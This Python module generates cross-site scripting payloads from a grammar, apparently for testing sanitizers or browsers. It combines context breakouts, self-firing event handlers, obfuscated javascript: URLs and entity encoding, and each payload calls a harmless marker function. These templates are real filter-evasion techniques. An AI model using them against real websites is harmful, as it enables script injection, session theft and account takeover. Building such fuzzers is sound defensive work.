"""Markup that runs a script, made up by a grammar: tags, events, addresses, encodings, quotes, places.

Shows none of it. What of it a browser runs is found out by showing it raw.
"""

import random
from dataclasses import dataclass

# The places of a page that text is put into, with what leads out of each.
PLACES = {
    "text": ("<p>{}</p>", ("", "", "", "</p>", "<p>")),
    "double": ('<input value="{}">', ('">', '" >', '"/>')),
    "single": ("<input value='{}'>", ("'>", "' >")),
    "bare": ("<input value={}>", (">", " >")),
    "title": ("<title>{}</title>", ("</title>", "</title >", "</TITLE\n>")),
    "textarea": ("<textarea>{}</textarea>", ("</textarea>",)),
    "comment": ("<!-- {} -->", ("-->", "--!>", "--><!-- -->")),
    "style": ("<style>{}</style>", ("</style>", "</style\t>")),
    "script": ("<script>let a = '{}'</script>", ("</script>", "</script x>")),
    "inside": ('<input value="{}">', ()),
    "address": ('<a href="{}">x</a>', ()),
    "string": ("<script>let a = '{}';</script>", ()),
}
# An element whose event comes by itself, and where its event goes.
OWN = (
    "img src=x {onerror}",
    "svg {onload}",
    "svg><svg {onload}",
    "iframe {onload}",
    "video src=x {onerror}",
    "video><source src=x {onerror}",
    "audio src=x {onerror}",
    "object data=x {onerror}",
    "link rel=stylesheet href=x {onerror}",
    "style {onload}",
    "input autofocus {onfocus}",
    "select autofocus {onfocus}",
    "textarea autofocus {onfocus}",
    "button autofocus {onfocus}",
    "a tabindex=0 autofocus {onfocus}",
    "details open {ontoggle}",
    "marquee {onstart}",
    "svg><animate attributeName=x dur=1s {onbegin}",
    "svg><set attributeName=x {onbegin}",
    "script src=x {onerror}",
    "img srcset=x {onerror}",
    "input type=image src=x {onerror}",
)
TAGS = (
    "p",
    "div",
    "b",
    "x",
    "mark",
    "svg",
    "math",
    "table",
    "form",
    "button",
    "video",
    "details",
    "i-i",
    "article",
)
EVENTS = (
    *("onclick", "onmouseover", "onfocus", "onpointerenter", "onkeydown", "oncopy", "onwheel", "ondblclick"),
    *("onanimationend", "ontransitionend", "ondrag", "oncontextmenu", "oninput", "onbeforeinput", "onblur"),
)
WITHOUT_EVENT = (
    "<script>{}</script>",
    "<SCRIPT\n>{}</SCRIPT\n>",
    "<svg><script>{}</script></svg>",
    "<script src='data:text/javascript,{}'></script>",
    "<script/x>{}//</script>",
    "<script type=module>{}</script>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='&lt;script>{}&lt;/script>'></iframe>",
    "<a href='javascript:{}'>x</a>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<svg><a href='javascript:{}'><rect width=9 height=9 /></a></svg>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<map><area href='javascript:{}'></map>",
    "<base href='javascript:/x/'><a href='#{}'>x</a>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<math><a href='javascript:{}'>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
)
# What is run, without quotes or blanks: it tells the number of its payload.
CALLS = (
    "hit(`{n}`)",
    "hit({n}+[])",
    "hit(String({n}))",
    "hit(/{n}/.source)",
    "top.hit({n}+[])",
    "self[/hi/.source+/t/.source]({n}+[])",
    "\\u0068it({n}+[])",
    "hi\\u{{74}}({n}+[])",
    "(0,eval)(`hit({n}+[])`)",
    "Function(`hit({n}+[])`)()",
    "[].map.constructor(`hit({n}+[])`)()",
    "Reflect.apply(hit,null,[{n}+[]])",
    "setTimeout(hit,0,{n}+[])",
    "hit.call(null,`{n}`)",
    "(hit)(`{n}`)",
    "1&&hit(`{n}`)",
    "void(hit(`{n}`))",
    "location=`javascript:hit({n}+[])`",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript:\n",
)
GAPS = (" ", " ", "/", "\t", "\n", "\x0c", "  ", "/ /")


@dataclass(frozen=True, slots=True)
class Payload:
    """A text with a script in it; `mark` is plain and stands before or behind it."""

    number: int
    place: str
    text: str

    @property
    def mark(self) -> str:
        """By which a page that shows it is known."""
        return f"zq{self.number}qz"

    def page(self) -> str:
        """The whole page of a place that puts it in raw."""
        return f"<!doctype html><body>{PLACES[self.place][0].replace('{}', self.text)}"


def payloads(count: int, seed: int) -> list[Payload]:
    """So many different ones."""
    chance = random.Random(seed)
    places = [place for place in PLACES for _ in range(6 if place == "text" else 1)]
    return [_make(chance, number, chance.choice(places)) for number in range(count)]


def _make(chance: random.Random, number: int, place: str) -> Payload:
    call = chance.choice(CALLS).format(n=number)
    mark = f"zq{number}qz"
    match place:
        case "address":
            text = chance.choice(SCHEMES) + call + f"//{mark}"
            return Payload(number, place, _encode(chance, text) if chance.random() < 0.3 else text)
        case "string":
            leads_out = chance.choice(("';", "'+", "'-", "',b="))
            return Payload(number, place, f"{mark}{leads_out}{call}//")
        case "inside":
            event = chance.choice(("autofocus onfocus", *EVENTS))
            quote = chance.choice(("", '"'))
            return Payload(number, place, f'{mark}" {event}={quote}{_encode(chance, call)} ')
    leads_out = chance.choice(PLACES[place][1])
    kind = chance.random()
    if kind < 0.5:
        made = _with_event(chance, chance.choice(OWN), call)
    elif kind < 0.75:
        made = _with_event(chance, f"{chance.choice(TAGS)} {{{chance.choice(EVENTS)}}}", call)
    else:
        made = chance.choice(WITHOUT_EVENT).replace("{}", call)
    return Payload(number, place, f"{mark}{leads_out}{made}")


def _with_event(chance: random.Random, element: str, call: str) -> str:
    """The element with its event: letters, gaps, quotes and encoding by lot."""
    before, _, rest = element.partition("{")
    event, _, behind = rest.partition("}")
    quote = chance.choice(("", "", '"', "'"))
    value = f"{quote}{_encode(chance, call)}{quote}"
    text = f"<{before}{event}={value}{behind}"
    if not quote and chance.random() < 0.2:
        text += " x="
    mixed = chance.choice((str, str, str.upper, str.title))
    name = before.rstrip()
    text = text.replace(f"{before}{event}=", f"{mixed(name)}{chance.choice(GAPS)}{mixed(event)}=", 1)
    return text + chance.choice((">", ">", ">x", "/>" if quote else " />", ">\n"))


def _encode(chance: random.Random, call: str) -> str:
    """A script as a value of an attribute may have it: some or all of its letters as entities."""
    match chance.randrange(6):
        case 0:
            return "".join(f"&#{ord(sign)};" for sign in call)
        case 1:
            return "".join(f"&#x{ord(sign):x};" if chance.random() < 0.5 else sign for sign in call)
        case 2:
            return call.replace("(", "&lpar;").replace(")", "&rpar;").replace("`", "&grave;")
        case 3:
            return "".join(f"&#{ord(sign):07};" if chance.random() < 0.3 else sign for sign in call)
        case _:
            return call
